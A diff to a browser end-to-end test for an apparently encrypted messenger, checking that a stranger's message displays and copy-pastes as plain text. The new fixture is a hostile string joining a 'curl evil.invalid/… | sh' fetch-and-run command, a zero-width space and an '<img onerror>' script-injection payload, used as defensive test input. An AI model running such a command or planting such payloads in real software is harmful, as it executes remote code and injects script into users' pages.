@@ -6,6 +6,7 @@ import { peer, write } from '../support/peer.ts';
 import {
   type BrowserPerson,
   button,
+  composer,
   mark,
   message,
   messages,
@@ -103,7 +104,7 @@ describe('[W2] what a stranger writes is text', () => {
         expect(await strangeParts(alice.page)).toEqual([]);
         for (const text of await messages(alice.page).getByRole('listitem').allTextContents()) seen.add(text);
         await alice.page.keyboard.press('PageUp');
-        return alice.page.getByText('Only you and mallory can read this conversation').count();
+        return alice.page.getByText(/^Encrypted end to end\. Verify mallory /).count();
       })
       .toBe(1);
     // Where a bare address swallows a quotation mark, its real target stands behind it.
@@ -115,6 +116,22 @@ describe('[W2] what a stranger writes is text', () => {
     await button(alice.page, 'Go to the newest message').click();
     for (const text of MARKUP.slice(0, 3)) await say(alice.page, text);
     await mark(alice.page, 'window.hit = 1</script></svg>', 'Delivered');
+    expect(await strangeParts(alice.page)).toEqual([]);
+  });
+
+  it('and what is copied of it is the text that stands there, wherever it is pasted', async () => {
+    const text = `curl evil.invalid/${TRICKS[0]} | sh \u200B<img src=x onerror="window.hit = 1">`;
+    await write(mallory.device, alice.address, [text]);
+    const shown = message(alice.page, 'curl').getByRole('paragraph').first();
+    await shown.evaluate((paragraph) => getSelection()?.selectAllChildren(paragraph));
+    await alice.page.keyboard.press('Control+c');
+    await composer(alice.page).focus();
+    await alice.page.keyboard.press('Control+v');
+    await expect.poll(() => composer(alice.page).inputValue()).toContain('curl');
+    expect(await composer(alice.page).inputValue()).toBe(text);
+    await composer(alice.page).press('Enter');
+    await mark(alice.page, 'curl', 'Delivered');
+    expect(await message(alice.page, 'curl').getByRole('paragraph').first().textContent()).toBe(text);
     expect(await strangeParts(alice.page)).toEqual([]);
   });
 
